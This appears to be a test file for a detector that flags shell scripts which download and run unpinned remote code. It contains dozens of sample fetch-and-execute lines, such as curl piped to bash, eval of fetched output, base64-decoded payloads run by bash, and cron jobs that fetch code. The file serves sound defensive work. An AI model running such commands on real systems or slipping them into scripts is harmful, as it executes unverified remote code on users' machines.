import { expect, test } from "vitest";
import { fetchedCode } from "#lib/analysis/scripts/fetched-code.ts";

const commit = "0f4a3c1b5d6e7f8091a2b3c4d5e6f708192a3b4c";
const hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

/** Scripts, and the lines that run code from elsewhere. */
const found: Record<string, [script: string, ...lines: number[]]> = {
  "a pipe": ["#!/bin/bash\ncurl -s http://192.0.2.66/setup.sh | bash", 2],
  "a pipe without a space": ["curl -s https://example.com/a.sh|bash", 1],
  "a pipe without a space, in quotes": ["su ec2-user -c 'curl -s https://example.com/a.sh|bash'", 1],
  "a pipe on lines of Windows": ["curl -s https://example.com/a.sh \\\r\n | bash\r\n", 1, 2],
  "a pipe to sudo": ["curl -sSL https://example.com/setup.sh | sudo -E bash -", 1],
  "a pipe as another user": ["wget -qO- https://example.com/i.sh | sudo -u ec2-user -i bash", 1],
  "a pipe with arguments": ["curl https://sh.example.com | sh -s -- -y", 1],
  "a pipe over tee": ["curl https://example.com/a | tee /tmp/log | /bin/sh", 1],
  "a pipe over gunzip": ["curl https://example.com/a.gz | gunzip | bash", 1],
  "a pipe with errors along": ["curl https://example.com/a 2>&1 | bash", 1],
  "a pipe to Python": ["curl -sSL https://install.example.org | python3 -", 1],
  "a pipe over two lines": ["curl -s https://example.com/a |\n  bash", 1, 2],
  "a command over several lines": ["curl \\\n -s \\\n https://example.com/a | bash", 1, 2, 3],
  "an address with a question": ['curl "https://example.com/a?x=1&y=2" | bash', 1],
  "in the words of another command": [`su ec2-user -c "curl -s https://example.com/a | bash"`, 1],
  "every five minutes": ["(crontab -l; echo '*/5 * * * * curl -s https://example.com/a | sh') | crontab -", 1],
  "in a document": ["cat > /tmp/x <<EOF\ncurl https://example.com/a | sh\nEOF", 2],
  "a substituted process": ["bash <(curl -s https://example.com/a)", 1],
  "a sourced process": ["source <(wget -qO- https://example.com/a)", 1],
  "a dot": [". <(curl -s https://example.com/a)", 1],
  "a substituted command": ['bash -c "$(curl -fsSL https://example.com/install.sh)"', 1],
  eval: ['eval "$(curl -s https://example.com/a)"', 1],
  backticks: ["eval `wget -qO- https://example.com/a`", 1],
  "a here string": ['bash <<< "$(curl -s https://example.com/a)"', 1],
  "an address in variables": [`HOST=https://example.com\nURL=$HOST/a.sh\ncurl -s \${URL} | bash`, 3],
  "a variable that is not known": ["curl -s $1 | bash", 1],
  "Python that fetches": [`python -c "import requests; exec(requests.get('https://example.com/x').text)"`, 1],
  "a file, then bash": ["curl -o /tmp/x.sh https://example.com/x.sh\necho hi\nbash /tmp/x.sh", 1, 3],
  "a file, then bash without a space": ["wget -q https://example.com/a.sh;bash a.sh", 1],
  "a file, and bash without a space": ["wget -q https://example.com/a.sh&&bash a.sh", 1],
  "a file, then a mode": ["wget https://example.com/tool -O /usr/local/bin/tool && chmod +x /usr/local/bin/tool", 1],
  "a file, then a mode in numbers": ["sudo curl -L https://example.com/dc -o /bin/dc\nsudo chmod 755 /bin/dc", 1, 2],
  "a file of its own name": ["wget https://example.com/auto.py\npython3 auto.py", 1, 2],
  "a remote name": ["curl -sSLO https://example.com/go.sh\nsh ./go.sh", 1, 2],
  "a redirection": ["curl https://example.com/go > /tmp/go\nsource /tmp/go", 1, 2],
  "tee to a file": ["curl https://example.com/go | sudo tee /opt/go.sh\n/opt/go.sh start", 1, 2],
  "the idle script of the samples": [
    'set -e\nwget https://raw.githubusercontent.com/aws-samples/s/master/autostop.py\n(crontab -l; echo "*/5 * * * * $(which python) $PWD/autostop.py --time 3600") | crontab -',
    2,
    3,
  ],
  "Miniconda, the latest": [
    'D=/home/ec2-user\nwget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O "$D/mc.sh"\nbash "$D/mc.sh" -b -u -p "$D/mc"',
    2,
    3,
  ],
  "a package of the file": ["curl -LO https://example.com/a.rpm\nsudo rpm -ivh a.rpm", 1, 2],
  "a clone that is installed": ["git clone https://github.com/x/tools.git\ncd tools && pip install .", 1, 2],
  "a clone that is run": [
    "git clone --depth 1 https://github.com/x/tools /opt/tools\nbash /opt/tools/install.sh",
    1,
    2,
  ],
  "a clone that pip installs": ["git clone https://github.com/x/tools\npip install ./tools", 1, 2],
  "a clone over SSH": ["git clone git@github.com:x/tools.git\ncd tools\nmake install", 1, 3],
  "pip from Git": ["pip install git+https://github.com/x/y.git", 1],
  "pip from a branch": ["sudo -u ec2-user -i pip install --upgrade git+https://github.com/x/y.git@main", 1],
  "pip from an archive": ["pip3 install https://example.com/x-1.0-py3-none-any.whl", 1],
  "pip from a list elsewhere": ["pip install -r https://example.com/requirements.txt", 1],
  "one of two that is not pinned": [`pip install git+https://github.com/x/y@${commit} git+https://github.com/x/z`, 1],
  "npm from GitHub": ["npm install -g github:x/y", 1],
  "conda from an address": ["conda env update -f https://example.com/env.yml", 1],
  "conda from a file elsewhere": ["conda env create --file https://example.com/env.yml", 1],
  "rpm from an address": ["sudo yum install -y https://example.com/a.rpm", 1],
  "R from GitHub": [`Rscript -e "remotes::install_github('x/y')"`, 1],
  "a program in base64": ["echo aW1wb3J0IG9z | base64 -d | bash", 1],
  "a program in base64, evaluated": ['eval "$(echo aW1wb3J0IG9z | base64 --decode)"', 1],
  "a file in base64": ["echo aW1w | base64 -d > /tmp/x.sh\nchmod +x /tmp/x.sh", 1, 2],
  "a file in base64, from a document": ["base64 -d > /tmp/x.sh <<EOF\naW1w\nEOF\nbash /tmp/x.sh", 1, 4],
  "Python in base64": [`python3 -c "import base64; exec(base64.b64decode('aW1w'))"`, 1],
};

test.each(Object.entries(found))("is found: %s", (_, [script, ...lines]) => {
  expect(fetchedCode(script).map((sight) => sight.lines)).toEqual([lines]);
});

const harmless: Record<string, string> = {
  "no script": "",
  "a script of one's own bucket": "aws s3 cp s3://our-scripts/setup.sh /tmp/setup.sh\nbash /tmp/setup.sh",
  "packages of the system": "yum install -y jq\napt-get update && apt-get install -y git",
  "environments of conda":
    'eval "$(conda shell.bash hook)"\nsource /home/ec2-user/anaconda3/bin/activate python3\npip install x > /dev/null 2>&1',
  "CodeCommit, of one's own account":
    "git clone https://git-codecommit.us-east-1.amazonaws.com/v1/repos/tools\ncd tools && pip install .\npip install git+https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/y",
  "packages by name":
    "#!/bin/bash\nset -e\nsudo -u ec2-user -i pip install --upgrade pandas==2.2.0\nconda install -y -c conda-forge ffmpeg=7.1",
  "an index of one's own": "pip install --index-url https://packages.example.internal/simple x",
  "a wheel index": "pip install torch -f https://download.pytorch.org/whl/torch_stable.html",
  "data that is fetched": "curl -o /tmp/data.csv https://example.com/data.csv\npython train.py /tmp/data.csv",
  "JSON that is read": `curl -s https://example.com/x.json | python3 -c "import sys, json; print(json.load(sys.stdin)['x'])"`,
  "JSON that is shown": "curl -s https://example.com/x.json | python -m json.tool",
  "JSON that a script reads": "curl -s https://example.com/x.json | python read.py",
  "text that is filtered": "curl -s https://example.com/list | perl -pe 's/a/b/' | sort",
  "a file called bash": "curl -s https://example.com/x | sudo tee /etc/bash.bashrc",
  "a command after": "curl -s https://example.com/ping || bash recover.sh",
  "the machine itself":
    'eval "$(curl -s http://169.254.169.254/latest/user-data)"\ncurl -s http://localhost:8888/x | bash',
  "a comment": "# curl https://example.com/a | bash\necho done # then: curl https://example.com/a | bash",
  "a clone that is read": "git clone https://github.com/x/notebooks.git /home/ec2-user/SageMaker/notebooks",
  "a clone at a commit": `git clone https://github.com/x/y.git\ncd y\ngit checkout ${commit}\npip install .`,
  "pip at a commit": `pip install git+https://github.com/x/y.git@${commit}#egg=y`,
  "pip with a hash": `pip install https://example.com/x-1.0.tar.gz#sha256=${hash}`,
  "a raw file at a commit": `curl -s https://raw.githubusercontent.com/x/y/${commit}/a.sh | bash`,
  "a file whose hash is checked": `wget https://example.com/a.sh\necho "${hash}  a.sh" | sha256sum -c -\nbash a.sh`,
  "a file whose signature is checked": "curl -LO https://example.com/a.sh\ngpg --verify a.sh.asc a.sh && bash a.sh",
  "a program that is there":
    "(crontab -l; echo '*/5 * * * * /usr/bin/python3 /opt/autostop.py --time 3600') | crontab -",
  "text in base64": "echo aGVsbG8= | base64 -d > /tmp/hello",
  "a certificate in base64": "echo $CERT | base64 -d > /etc/pki/own.pem\nupdate-ca-trust",
  "a question, then a command": "V=$(curl -s https://example.com/version);bash /opt/run.sh",
};

test.each(Object.entries(harmless))("is not taken for it: %s", (_, script) => {
  expect(fetchedCode(script)).toEqual([]);
});

test("what people trust runs, over HTTPS alone, and nothing that only begins alike", () => {
  const script = ["https://a.example.com/x", "http://a.example.com/x", "https://a.example.com.evil.org/x"]
    .map((url) => `curl -s ${url} | bash`)
    .concat("curl -s https://b.example.com/tools/x | bash", "curl -s https://b.example.com/toolsmith/x | bash")
    .join("\n");
  expect(fetchedCode(script, ["a.example.com", "b.example.com/tools"]).flatMap(({ lines }) => lines)).toEqual([
    2, 3, 5,
  ]);
});

test("what people trust may come over SSH", () => {
  const script = ["git@github.com:ours/a.git", "ssh://git@github.com/ours/b.git", "git@github.com:others/c.git"]
    .map((source, at) => `git clone ${source} /opt/t${at}\nbash /opt/t${at}/install.sh`)
    .join("\n");
  expect(fetchedCode(script, ["github.com/ours"]).flatMap(({ lines }) => lines)).toEqual([5, 6]);
});

test("is shown without what the address asks for", () => {
  const [sight] = fetchedCode('curl -s "https://u:p@example.com/a.sh?token=abc123" | bash');
  expect(sight).toMatchObject({ what: "runs what it fetches", command: 'curl -s "https://example.com/a.sh" | bash' });
});

test.each([
  ["options", `curl ${"-a ".repeat(5_000)}`],
  ["pipes", `curl x ${"| sudo a ".repeat(2_000)}`],
  ["variables that hold each other", Array.from({ length: 400 }, (_, at) => `A${at + 1}="$A${at}$A${at}x"`).join("\n")],
  ["quotes", `exec(${"urlopen ".repeat(2_000)}`],
  ["lines that go on", "curl \\\n".repeat(2_000)],
])("is done soon with thousands of %s", (_, script) => {
  const began = performance.now();
  fetchedCode(script);
  expect(performance.now() - began).toBeLessThan(2_000);
});
